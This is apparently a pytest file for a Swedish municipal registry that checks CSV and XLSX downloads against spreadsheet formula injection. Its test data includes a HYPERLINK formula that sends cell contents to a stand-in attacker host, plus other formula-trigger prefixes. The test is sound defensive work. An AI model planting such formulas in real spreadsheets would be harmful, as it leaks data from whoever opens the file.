"""Every text cell in every download is data, never a formula."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from tests.conftest import TODAY
from tests.interchange.helpers import write_set
from utfall.core.spreadsheets import read_excel_csv
from utfall.interchange.exporter import export_all
from utfall.interchange.importer import import_files
from utfall.registry.models import Provider
from utfall.results.tables import Column, ResultTable, to_csv, to_xlsx

NAMES = ['=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")', "+46 Omsorg", "-Plus", "@SUM(A1)",
         "\t=1+1", "Solgläntan"]  # fmt: skip


def table() -> ResultTable:
    rows = [
        {"group": f"P{i}", "name": name, "rate": -0.25 if i == 0 else 0.5} for i, name in enumerate(NAMES)
    ]
    return ResultTable(
        "t", "t", [Column("group", "Kod"), Column("name", "Namn"), Column("rate", "Andel", "rate")], rows
    )


def test_a_csv_download_starts_every_formula_like_text_with_an_apostrophe() -> None:
    _, _, rows = read_excel_csv(to_csv(table()))
    names = [row[1] for row in rows]
    assert names == ["'" + n for n in NAMES[:5]] + ["Solgläntan"]
    assert rows[0][2] == "-0,25"  # a number stays a number (with the Swedish decimal comma)


def test_an_xlsx_download_holds_text_never_formulas(tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "t.xlsx"
    path.write_bytes(to_xlsx(table()))
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=3, max_row=2 + len(NAMES))]
    assert [c.data_type for c in cells] == ["s"] * len(NAMES)
    assert [c.value for c in cells] == NAMES  # the name as it is, shown as text


@pytest.mark.django_db
def test_the_interchange_export_is_safe_and_still_round_trips(
    write_csv, municipality, other_municipality, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    assert import_files(write_set(write_csv), municipality=municipality, today=TODAY).ok
    Provider.objects.filter(municipality=municipality, provider_id="P1").update(name=NAMES[0])
    export_all(municipality, tmp_path / "first")
    text = (tmp_path / "first" / "providers.csv").read_text(encoding="utf-8")
    assert "\n" + "P1,\"'=HYPERLINK(" in text
    report = import_files(
        sorted((tmp_path / "first").glob("*.csv")), municipality=other_municipality, today=TODAY
    )
    assert report.ok, report.issues[:3]
    assert Provider.objects.get(municipality=other_municipality, provider_id="P1").name == NAMES[0]
    export_all(other_municipality, tmp_path / "second")
    for kind in ("providers", "contracts", "interventions", "followups"):
        first = (tmp_path / "first" / f"{kind}.csv").read_bytes()
        assert first == (tmp_path / "second" / f"{kind}.csv").read_bytes()
